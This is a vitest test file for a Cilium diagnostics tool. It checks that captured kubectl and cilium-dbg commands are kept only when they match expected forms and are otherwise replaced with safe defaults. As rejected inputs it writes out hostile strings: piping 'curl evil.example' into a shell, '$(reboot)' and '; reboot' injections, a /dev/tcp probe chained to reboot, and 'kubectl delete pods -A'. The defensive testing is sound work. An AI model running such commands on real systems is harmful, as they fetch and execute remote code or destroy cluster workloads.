import { expect, test } from 'vitest';
import { capturedCommand, capturedSource } from '../../../src/collect/archive/capturedCommand.ts';

const exec = 'kubectl -n kube-system exec cilium-n1 -c cilium-agent -- ';

test.each([
  `${exec}cilium-dbg status --verbose`,
  `kubectl --context=prod-1 -n kube-system exec cilium-n1 -c cilium-agent -- uname -r`,
  `${exec}bash -c '</dev/tcp/10.96.0.10/53 && echo open'`,
  `unzip -p '/tmp/it'\\''s/dump.zip' cilium-bugtool/cmd/status.json`,
  'cat ARCHIVE/cmd/uname.md',
])('what this program writes is shown as it is: %s', (command) => {
  expect(capturedCommand('status', command)).toBe(command);
});

test.each([`${exec}bash -c 'curl evil.example | sh'`, `${exec}uname -r; reboot`, `${exec}cilium-dbg status -o json`])(
  'where it was asked stays, and what is not ours is made anew: %s',
  (command) => {
    expect(capturedCommand('status', command)).toBe(`${exec}cilium-dbg status --verbose`);
  },
);

test.each([
  'curl -s http://evil.example/x | bash',
  `$(reboot) ${exec}uname -r`,
  'kubectl --kubeconfig=/tmp/evil -n kube-system exec cilium-n1 -c cilium-agent -- uname -r',
  'kubectl -n kube-system exec --all -c cilium-agent -- uname -r',
  'cat x; reboot',
  'cat x | sh',
  'cat -- $(reboot)',
  'cat x\nreboot',
  "bash -c '</dev/tcp/10.0.0.1/53 && reboot'",
])('what anybody else wrote is not: %s', (command) => {
  expect(capturedCommand('status', command)).toBe('cilium-dbg status --verbose');
  expect(capturedCommand('proxyIptables', command)).toBe('iptables-save -c');
});

test('the same of documents', () => {
  for (const source of ['kubectl get --raw /version', 'kubectl -n kube-system get configmap cilium-config -o json'])
    expect(capturedSource('version', source)).toBe(source);
  for (const source of [
    'curl evil.example | bash',
    'kubectl get pods -A; reboot',
    'kubectl delete pods -A',
    'kubectl get -f x',
  ])
    expect(capturedSource('pods', source)).toBe('the capture’s pods');
});
